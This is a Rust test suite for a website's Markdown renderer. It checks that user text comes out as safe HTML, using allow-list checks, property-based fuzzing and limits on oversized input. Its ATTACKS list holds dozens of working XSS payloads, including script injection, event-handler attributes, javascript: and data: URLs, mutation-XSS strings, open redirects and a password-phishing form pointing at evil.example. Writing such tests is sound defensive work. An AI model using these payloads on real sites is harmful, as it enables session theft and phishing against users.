//! What people write comes out harmless, however it was meant, and says what it said.

use bashke::platform::markdown::{FIGURES, LENGTH, Links, Piece, Rendered, TooMuch, pieces, render};
use proptest::prelude::*;
use scraper::{Html, Node};

const LINKS: Links<'static> = Links {
    origin: "https://bashke.example",
};

fn written(text: &str) -> Result<Rendered, TooMuch> {
    render(text, &LINKS, |slug| slug == "ora-prova")
}

/// What a reader of Albanian is shown, without the figures.
fn shown(text: &str) -> String {
    let rendered = written(text).unwrap_or_else(|why| panic!("{why}: {text}"));
    pieces(&rendered.html, "")
        .into_iter()
        .map(|piece| match piece {
            Piece::Html(html) => html,
            Piece::Figure(code) => format!("[{code}]"),
        })
        .collect()
}

/// What of HTML a browser would run, load or obey, read by a parser of HTML.
fn harm(html: &str) -> Vec<String> {
    const TAGS: [&str; 24] = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    const ATTRIBUTES: [&str; 7] = ["href", "rel", "title", "src", "alt", "start", "align"];
    let mut harm = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Comment(comment) => {
                harm.push(format!("<!--{}-->", &**comment));
                continue;
            }
            _ => continue,
        };
        // the parser puts these around every fragment
        if ["html", "head", "body"].contains(&element.name()) && element.attrs().next().is_none() {
            continue;
        }
        if !TAGS.contains(&element.name()) {
            harm.push(format!("<{}>", element.name()));
        }
        for (name, value) in element.attrs() {
            let plain = value.trim().to_lowercase();
            let good = match name {
                "href" => {
                    let away = ["https://", "http://", "mailto:"]
                        .iter()
                        .any(|scheme| plain.starts_with(scheme));
                    away || plain.starts_with('/') && !plain.starts_with("//") && !plain.starts_with("/\\")
                }
                "src" => plain.starts_with("/uploads/") || plain.starts_with("/attachments/"),
                other => ATTRIBUTES.contains(&other),
            };
            if !good {
                harm.push(format!("<{} {name}={value}>", element.name()));
            }
        }
        if element.name() == "a" && element.attr("rel") != Some("nofollow ugc noopener") {
            harm.push(format!("<a rel={:?}>", element.attr("rel")));
        }
    }
    harm
}

/// Texts that were meant to do harm, of the kinds that are known.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=password><button>Hyni</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<p onclick=alert(1)>x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "</p></div></main></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/en//evil.example)",
    "[x](/%0a/evil.example)",
    "[x](/%5cevil.example)",
    "[x](https://bashke.example//evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x](https://a.al \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://a.al/\"onmouseover=alert(1))",
    "[x](https://a.al/'><script>alert(1)</script>)",
    "[a](<https://a.al\" onclick=alert(1)>)",
    "![x](https://evil.example/tracker.gif)",
    "![x](//evil.example/tracker.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "![x](/sign-out)",
    "![x](/attachments/1/../../sign-out)",
    "![x](/attachments/1\" onerror=alert(1))",
    "![\"onerror=alert(1) x=\"](/attachments/1)",
    "![a](/attachments/1 \"b\\\" onload=alert(1)\")",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "~~~ \" onclick=alert(1)\nx\n~~~",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "- <svg\n  onload=alert(1)>",
    "@<script>alert(1)</script>",
    "@ora-prova\"onclick=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "<a href=\"https://a.al\" target=_top onclick=alert(1)>x</a>",
    "www.evil.example/\"onclick=alert(1)",
    "https://evil.example/<script>",
    "\u{202e}<script>alert(1)</script>",
    "\u{e000}[x](\u{e000}javascript:alert(1))",
    "[x](/\u{e000}/evil.example)",
    "\u{e001}<script>\u{e001}",
    "&#xE001;&lt;script&gt;&#xE001;",
    "`\u{e001}k7m2q9xw\u{e001}`",
];

#[test]
fn what_is_meant_to_do_harm_does_none() {
    for attack in ATTACKS {
        for text in [
            (*attack).to_owned(),
            format!("> {attack}"),
            format!("- a\n- {attack}"),
            format!("**{attack}**"),
            format!("[{attack}](https://a.al)"),
            format!("![{attack}](/attachments/1)"),
            format!("x\n\n{attack}\n\ny"),
        ] {
            let html = shown(&text);
            assert_eq!(harm(&html), Vec::<String>::new(), "{text:?} becomes {html}");
        }
    }
}

#[test]
fn attacks_one_after_the_other_do_none_either() {
    for between in ["\n", "\n\n", " ", ""] {
        for pair in ATTACKS.windows(3) {
            let text = pair.join(between);
            let html = shown(&text);
            assert_eq!(harm(&html), Vec::<String>::new(), "{text:?} becomes {html}");
        }
    }
}

#[test]
fn html_that_somebody_typed_is_shown_as_they_typed_it() {
    assert_eq!(shown("Shih <b>këtu</b>"), "<p>Shih &lt;b&gt;këtu&lt;/b&gt;</p>\n");
    assert!(shown("<div>\nx\n</div>").contains("&lt;div&gt;"));
}

#[test]
fn what_is_written_is_shown() {
    for (text, html) in [
        (
            "**Fort** dhe *lehtë*",
            "<p><strong>Fort</strong> dhe <em>lehtë</em></p>\n",
        ),
        ("një\ndy", "<p>një<br>\ndy</p>\n"),
        ("# Titull", "<h3>Titull</h3>\n"),
        ("###### Titull", "<h6>Titull</h6>\n"),
        ("> citim", "<blockquote>\n<p>citim</p>\n</blockquote>\n"),
        (
            "[Lezha](/en/places/lezhe)",
            "<p><a href=\"/places/lezhe\" rel=\"nofollow ugc noopener\">Lezha</a></p>\n",
        ),
        (
            "https://bashke.example/en/places/lezhe",
            "<p><a href=\"/places/lezhe\" rel=\"nofollow ugc noopener\">https://bashke.example/en/places/lezhe</a></p>\n",
        ),
        (
            "![Fatura](/attachments/7)",
            "<p><img src=\"/attachments/7\" alt=\"Fatura\"></p>\n",
        ),
        (
            "![gjurmues](https://a.al/x.gif)",
            "<p><a href=\"https://a.al/x.gif\" rel=\"nofollow ugc noopener\">gjurmues</a></p>\n",
        ),
        ("[asgjë](places/lezhe) tjetër", "<p>asgjë tjetër</p>\n"),
        (
            "Po @Ora-Prova, jo @askush, as ana@ora-prova.al.",
            "<p>Po <a href=\"/people/ora-prova\" rel=\"nofollow ugc noopener\">@Ora-Prova</a>, jo @askush, as \
             <a href=\"mailto:ana@ora-prova.al\" rel=\"nofollow ugc noopener\">ana@ora-prova.al</a>.</p>\n",
        ),
        ("`@ora-prova`", "<p><code>@ora-prova</code></p>\n"),
    ] {
        assert_eq!(shown(text), html, "{text}");
    }
}

#[test]
fn addresses_of_ours_are_in_the_language_of_the_page() {
    let html = written("[a](/places/lezhe?x=1) [b](https://a.al/places)").unwrap().html;
    let english = pieces(&html, "/en");
    assert!(
        matches!(&english[..], [Piece::Html(html)] if html.contains("\"/en/places/lezhe?x=1\"") && html.contains("\"https://a.al/places\"")),
        "{english:?}"
    );
}

#[test]
fn a_figure_that_stands_alone_is_shown_and_every_figure_is_known() {
    let text = "Shihni:\n\nhttps://bashke.example/en/figures/k7m2q9xw\n\ndhe [këtë](/figures/aaaa1111).\n\n> /figures/bbbb2222";
    let rendered = written(text).unwrap();
    assert_eq!(rendered.figures, ["k7m2q9xw", "aaaa1111", "bbbb2222"]);
    let figures: Vec<Piece> = pieces(&rendered.html, "")
        .into_iter()
        .filter(|piece| matches!(piece, Piece::Figure(_)))
        .collect();
    assert_eq!(
        figures,
        [
            Piece::Figure("k7m2q9xw".to_owned()),
            Piece::Figure("bbbb2222".to_owned())
        ]
    );
    assert!(
        written("[fjalë](https://bashke.example/figures/k7m2q9xw)")
            .unwrap()
            .html
            .contains("<a ")
    );
}

#[test]
fn who_is_named_is_known_once() {
    let rendered = written("@ora-prova dhe @ORA-PROVA dhe @askush; x@y.al").unwrap();
    assert_eq!(rendered.mentions, ["ora-prova", "askush"]);
}

#[test]
fn too_much_of_anything_is_refused_before_anything_is_made_of_it() {
    let many = |one: &str, times: usize| one.repeat(times);
    for (text, why) in [
        (many("a", LENGTH + 1), TooMuch::Length),
        (many(">", 10_000), TooMuch::Depth),
        (many("> ", 9_000), TooMuch::Depth),
        (many("- ", 9_000) + "x", TooMuch::Depth),
        (many("1. ", 6_000) + "x", TooMuch::Depth),
        (many("*a **a ", 300) + &many("b** b*", 300), TooMuch::Depth),
        (many("[a](/b) ", 70), TooMuch::Links),
        (many("https://a.al ", 70), TooMuch::Links),
        (
            (0..=FIGURES).map(|n| format!("/figures/aaaa{n}\n\n")).collect(),
            TooMuch::Figures,
        ),
        ((0..40).map(|n| format!("@p{n} ")).collect(), TooMuch::Mentions),
        (many("![a](/attachments/1) ", 13), TooMuch::Pictures),
        (many("a\n\n", 6_000), TooMuch::Parts),
        // a few letters that would become half a million cells
        (
            format!("{}\n{}\n{}", many("|a", 2_000), many("|-", 2_000), many("|\n", 2_000)),
            TooMuch::Parts,
        ),
    ] {
        let start: String = text.chars().take(12).collect();
        assert_eq!(written(&text), Err(why), "{start}…");
    }
}

#[test]
fn what_makes_readers_of_markdown_slow_comes_out_or_is_refused() {
    let most = |one: &str| one.repeat(LENGTH / one.len());
    for text in [
        most("["),
        most("]"),
        most("[["),
        most("![["),
        most("[a]("),
        most("[a](<b"),
        most("*a_ "),
        most("**x "),
        most("a**b"),
        most("`a``b"),
        most("<"),
        most("<!"),
        most("<?"),
        most("<![CDATA["),
        most("&"),
        most("\\"),
        most("|"),
        most("~~"),
        most("@a"),
        most("www."),
        most("http://"),
        most("a@"),
        most("(\u{301}"),
        most("\t-\n"),
        format!("{}{}", "[".repeat(9_000), "]".repeat(9_000)),
        format!("[a]: {}\n\n{}", "x".repeat(9_000), "[a]".repeat(3_000)),
    ] {
        if let Ok(rendered) = written(&text) {
            assert!(rendered.html.len() < 3_000_000, "{} bytes", rendered.html.len());
            assert_eq!(harm(&rendered.html.replace('\u{e000}', "")), Vec::<String>::new());
        }
    }
}

/// Pieces of which attacks are made.
const BITS: &[&str] = &[
    "<",
    ">",
    "\"",
    "'",
    "`",
    "```",
    "[",
    "]",
    "(",
    ")",
    "!",
    "!",
    "*",
    "**",
    "_",
    "~~",
    "|",
    "-",
    "#",
    ">",
    "\\",
    "&",
    ";",
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    "@",
    "/",
    "//",
    ":",
    "<a href=",
    "<img src=x onerror=",
    "<svg onload=",
    "<script>",
    "</script>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<style>",
    "</style>",
    "<math>",
    "<table>",
    "<p",
    "</p>",
    "onclick=alert(1)",
    "javascript:alert(1)",
    "data:text/html,",
    "https://a.al",
    "//evil.example",
    "/places/lezhe",
    "/attachments/1",
    "&#x6A;",
    "&colon;",
    "&lt;",
    "&quot;",
    "\u{e000}",
    "\u{e001}",
    "\u{202e}",
    "\u{0}",
    "ë",
    "ora-prova",
    "x",
    "1. ",
    "| a | b |\n|---|---|\n",
];

/// A piece by itself, or two where a link or a picture leads.
fn bits() -> impl Strategy<Value = String> {
    let bit = || proptest::sample::select(BITS);
    prop_oneof![
        3 => bit().prop_map(str::to_owned),
        1 => (bit(), bit()).prop_map(|(a, b)| format!("[x]({a}{b})")),
        1 => (bit(), bit()).prop_map(|(a, b)| format!("![{a}]({b})")),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_does_harm(bits in proptest::collection::vec(bits(), 0..30)) {
        let text = bits.concat();
        if written(&text).is_ok() {
            let html = shown(&text);
            prop_assert_eq!(harm(&html), Vec::<String>::new(), "{:?} becomes {}", text, html);
        }
    }

    #[test]
    fn what_is_made_once_is_made_the_same_again(text in ".{0,200}") {
        prop_assert_eq!(written(&text), written(&text));
    }
}
